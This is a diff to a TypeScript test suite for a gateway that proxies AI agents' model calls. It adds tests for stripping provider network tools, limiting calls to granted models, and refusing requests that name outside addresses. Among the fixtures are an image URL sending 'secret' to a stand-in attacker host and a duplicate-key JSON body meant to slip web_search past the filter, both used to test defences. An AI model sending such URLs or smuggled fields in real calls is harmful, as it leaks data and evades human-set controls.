@@ -7,11 +7,12 @@ import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } fr
 import { type AttemptId, type Credential, newId } from '@sentra/contract'
 import { MODEL_TOKEN_HEADER } from '@sentra/contract/runner'
 import { type App, inTenant, LOCAL_TENANT } from '#platform'
-import { closeModelCalls, endModelCall, findLastModelCall, startModelCall } from '#usage'
+import { closeModelCalls, endModelCall, findLastModelCall } from '#usage'
 import { closeApp, makeApp } from '../../test/app.ts'
 import { createTestDatabase, type TestDatabase } from '../../test/database.ts'
 import { insertWork } from '../../test/work.ts'
 import { addCredential } from './add-credential.ts'
+import { admitCall } from './admitted-calls-store.ts'
 import { endGrant, issueGrant, serveGateway } from './index.ts'
 import { removeCredential } from './remove-credential.ts'
 
@@ -54,8 +55,16 @@ const origin = () => `http://127.0.0.1:${(service.address() as AddressInfo).port
 
 type Access = { token: string; attemptId: AttemptId; credential: Credential }
 
+type Wanted = {
+  wire: Credential['wire']
+  key?: string
+  tenantId?: string
+  providerTools?: boolean
+  models?: string[]
+}
+
 /** A live attempt that may call the service. */
-async function grantAccess(input: { wire: Credential['wire']; key?: string; tenantId?: string }): Promise<Access> {
+async function grantAccess(input: Wanted): Promise<Access> {
   const tenantId = input.tenantId ?? LOCAL_TENANT
   const attemptId = (await insertWork(db, tenantId)).attemptId as AttemptId
   await db.sql('delete from sentra.model_calls where attempt_id = $1', [attemptId])
@@ -69,7 +78,12 @@ async function grantAccess(input: { wire: Credential['wire']; key?: string; tena
       { app, principal },
       { name, wire: input.wire, baseUrl, key: input.key ?? KEY },
     )
-    return { token: await issueGrant(tx, { attemptId, credentialId: credential.id }), attemptId, credential }
+    const { models = null, providerTools = false } = input
+    return {
+      token: await issueGrant(tx, { attemptId, credentialId: credential.id, models, providerTools }),
+      attemptId,
+      credential,
+    }
   })
 }
 
@@ -78,6 +92,12 @@ function call(token: string, path: string, body: object = { model: 'm' }): Promi
   const outgoing = request({ socketPath: app.paths.gatewaySocket, method: 'POST', path, headers })
   outgoing.end(JSON.stringify(body))
   return new Promise((resolve, reject) => outgoing.once('response', resolve).once('error', reject))
+}
+
+/** The record of a call that is not forwarded yet. */
+async function admitted({ token, credential }: Access, path: string): Promise<number> {
+  const asked = { token, openOn: [credential.wire], path, model: null, removed: [] }
+  return (await admitCall(app, LOCAL_TENANT, asked))?.callId ?? 0
 }
 
 const callsOf = ({ attemptId }: Access) =>
@@ -163,11 +183,8 @@ test('an agent that hangs up ends the call to the service', async () => {
 
 test('a call whose server was killed has an end once its attempt is over, a late one keeps its own', async () => {
   const access = await grantAccess({ wire: 'openai' })
-  const { attemptId, credential } = access
-  const ids = await inTenant(app.database, LOCAL_TENANT, async (tx) => {
-    const lost = { attemptId, credentialId: credential.id, path: '/v1/responses', model: null }
-    return [await startModelCall(tx, lost), await startModelCall(tx, lost)]
-  })
+  const { attemptId } = access
+  const ids = [await admitted(access, '/v1/responses'), await admitted(access, '/v1/responses')]
   const late = { status: 200, error: null, inputTokens: 1, cachedInputTokens: 0, outputTokens: 1 }
   await inTenant(app.database, LOCAL_TENANT, async (tx) => {
     await closeModelCalls(tx, attemptId)
@@ -179,7 +196,7 @@ test('a call whose server was killed has an end once its attempt is over, a late
 })
 
 test('what a service says of its models or of counting tokens is not how the model did', async () => {
-  const { attemptId, credential } = await grantAccess({ wire: 'anthropic' })
+  const access = await grantAccess({ wire: 'anthropic' })
   const outcome = { error: null, inputTokens: 0, cachedInputTokens: 0, outputTokens: 0 }
   const last = await inTenant(app.database, LOCAL_TENANT, async (tx) => {
     for (const [path, status] of [
@@ -187,10 +204,9 @@ test('what a service says of its models or of counting tokens is not how the mod
       ['/v1/messages/count_tokens', 501],
       ['/v1/models', 403],
     ] as const) {
-      const id = await startModelCall(tx, { attemptId, credentialId: credential.id, path, model: null })
-      await endModelCall(tx, id, { ...outcome, status })
+      await endModelCall(tx, await admitted(access, path), { ...outcome, status })
     }
-    return findLastModelCall(tx, attemptId)
+    return findLastModelCall(tx, access.attemptId)
   })
   expect(last).toMatchObject({ status: 200 })
 })
@@ -216,7 +232,9 @@ describe('is refused in the words of its provider, and nothing reaches the servi
 
   test('the token of an earlier lease', async () => {
     const { token, attemptId, credential } = await grantAccess({ wire: 'openai' })
-    await inTenant(app.database, LOCAL_TENANT, (tx) => issueGrant(tx, { attemptId, credentialId: credential.id }))
+    await inTenant(app.database, LOCAL_TENANT, (tx) =>
+      issueGrant(tx, { attemptId, credentialId: credential.id, models: null, providerTools: false }),
+    )
     expect(await refusal(await call(token, '/v1/responses'))).toMatchObject({ status: 403 })
     expect(seen).toEqual([])
   })
@@ -255,6 +273,106 @@ describe('is refused in the words of its provider, and nothing reaches the servi
     expect(await send(Buffer.alloc(33 * 1024 * 1024))).toBe(413)
     expect(seen).toEqual([])
   })
+})
+
+describe('what the service would do with its own network', () => {
+  const search = { type: 'web_search', external_web_access: true }
+  const own = { type: 'function', name: 'exec_command', parameters: {} }
+  const page = { role: 'user', content: [{ type: 'input_image', image_url: 'https://attacker.example/?q=secret' }] }
+  const linesOf = ({ attemptId }: Access) =>
+    db.sql('select level, message from sentra.logs where attempt_id = $1 and line > 1 order by line', [attemptId])
+
+  beforeEach(() => {
+    answer = (_request, response) => response.writeHead(200, { 'content-type': 'application/json' }).end('{}')
+  })
+
+  test('is taken out of a call; its record says so each time, the log of the run once', async () => {
+    const access = await grantAccess({ wire: 'openai' })
+    for (const input of ['first', 'second']) {
+      const response = await call(access.token, '/v1/responses', { model: 'm', input, tools: [own, search] })
+      expect([response.statusCode, await text(response)]).toEqual([200, '{}'])
+    }
+    expect(seen.map(({ body }) => JSON.parse(body))).toEqual([
+      { model: 'm', input: 'first', tools: [own] },
+      { model: 'm', input: 'second', tools: [own] },
+    ])
+    const removed = `select removed_tools from sentra.model_calls where attempt_id = $1 and removed_tools <> '{}'`
+    await expect.poll(() => db.sql(removed, [access.attemptId])).toHaveLength(2)
+    expect(await linesOf(access)).toEqual([
+      { level: 'info', message: expect.stringContaining('Left out of model calls: web_search.') },
+    ])
+  })
+
+  test('is refused in words where the call names an address, and nothing reaches the service', async () => {
+    const access = await grantAccess({ wire: 'openai' })
+    const response = await call(access.token, '/v1/responses', { model: 'm', input: [page] })
+    expect(response.statusCode).toBe(400)
+    expect(JSON.parse(await text(response))).toMatchObject({
+      error: { type: 'invalid_request_error', message: expect.stringMatching(/image_url.*--provider-tools allow/) },
+    })
+    expect(seen).toEqual([])
+    expect(await endedCallOf(access)).toMatchObject({
+      model: 'm',
+      status: 400,
+      error: expect.stringContaining('address'),
+    })
+    expect(await linesOf(access)).toEqual([{ level: 'warn', message: expect.stringContaining('was refused') }])
+  })
+
+  test('passes as it came when a person allowed it', async () => {
+    const access = await grantAccess({ wire: 'openai', providerTools: true })
+    const body = { model: 'm', input: [page], tools: [search] }
+    const response = await call(access.token, '/v1/responses', body)
+    expect([response.statusCode, await text(response)]).toEqual([200, '{}'])
+    expect(seen.map((one) => JSON.parse(one.body))).toEqual([body])
+    await endedCallOf(access)
+    expect(await linesOf(access)).toEqual([])
+  })
+
+  test('does not slip in as a second field of the same name', async () => {
+    const { token } = await grantAccess({ wire: 'openai' })
+    const headers = { 'content-type': 'application/json; charset=utf-7', [MODEL_TOKEN_HEADER]: token }
+    const outgoing = request({ socketPath: app.paths.gatewaySocket, method: 'POST', path: '/v1/responses', headers })
+    outgoing.end(`{"tools":[${JSON.stringify(search)}],"model":"m","tools":[${JSON.stringify(own)}]}`)
+    await once(outgoing, 'response')
+    expect(seen[0]?.body).not.toContain('web_search')
+    expect(seen[0]?.headers['content-type']).toBe('application/json')
+  })
+})
+
+describe('the models of a grant', () => {
+  test.each<[string, object]>([
+    ['another model', { model: 'large-1' }],
+    ['another one to fall back on', { model: 'small-1', models: ['small-1', 'large-1'] }],
+    ['none at all', { messages: [] }],
+  ])('are the only ones: %s is refused with those that are allowed', async (_what, body) => {
+    const access = await grantAccess({ wire: 'openai', models: ['small-1'] })
+    const response = await call(access.token, '/v1/chat/completions', body)
+    expect(response.statusCode).toBe(400)
+    expect(JSON.parse(await text(response))).toMatchObject({
+      error: { message: expect.stringContaining('it may call small-1') },
+    })
+    expect(seen).toEqual([])
+    expect(await endedCallOf(access)).toMatchObject({ status: 400, error: expect.stringContaining('small-1') })
+  })
+
+  test('can be called, and listed', async () => {
+    answer = (_request, response) => response.writeHead(200, { 'content-type': 'application/json' }).end('{}')
+    const { token } = await grantAccess({ wire: 'openai', models: ['small-1'] })
+    expect((await call(token, '/v1/chat/completions', { model: 'small-1' })).statusCode).toBe(200)
+    const headers = { [MODEL_TOKEN_HEADER]: token }
+    const listing = request({ socketPath: app.paths.gatewaySocket, path: '/v1/models', headers }).end()
+    expect(((await once(listing, 'response')) as [IncomingMessage])[0].statusCode).toBe(200)
+  })
+})
+
+test('who may not call is told so before its body has come', async () => {
+  const headers = { [MODEL_TOKEN_HEADER]: 'guess', 'content-length': 2_000_000 }
+  const outgoing = request({ socketPath: app.paths.gatewaySocket, method: 'POST', path: '/v1/messages', headers })
+  outgoing.flushHeaders()
+  const [response] = (await once(outgoing, 'response')) as [IncomingMessage]
+  expect(response.statusCode).toBe(403)
+  outgoing.destroy()
 })
 
 describe('when the service fails', () => {
